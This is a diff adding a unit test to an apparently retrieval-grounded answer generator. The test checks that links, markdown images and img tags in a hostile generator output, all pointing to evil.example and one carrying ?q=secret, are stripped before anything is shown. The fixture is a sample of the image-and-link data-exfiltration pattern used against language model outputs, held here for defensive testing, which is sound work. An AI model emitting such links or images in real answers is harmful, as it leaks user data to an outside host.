@@ -320,6 +320,19 @@ def test_the_extractive_answerer_answers_from_the_handbook(footnote: Footnote) -
     assert {sentence.verdict for sentence in answer.sentences} == {Verdict.SUPPORTED}
 
 
+def test_links_and_pictures_of_a_generator_reach_nobody(footnote: Footnote) -> None:
+    hostile = (
+        "Annual leave is twenty-five days a year [1]. ![Chart](https://evil.example/?q=secret) "
+        "Five days [may be](https://evil.example/a) carried over until 31 March <img src=//evil.example> [1]."
+    )
+    events, answer = streamed(answerer(footnote, hostile))
+    assert_sound(answer, footnote)
+    for text in (shown(events), answer.text):
+        assert "evil.example" not in text
+        assert "carried over until 31 March" in text
+    assert answer.sentences[0].verdict is Verdict.SUPPORTED
+
+
 # ----------------------------------------------------------------------------------------- rights
 
 
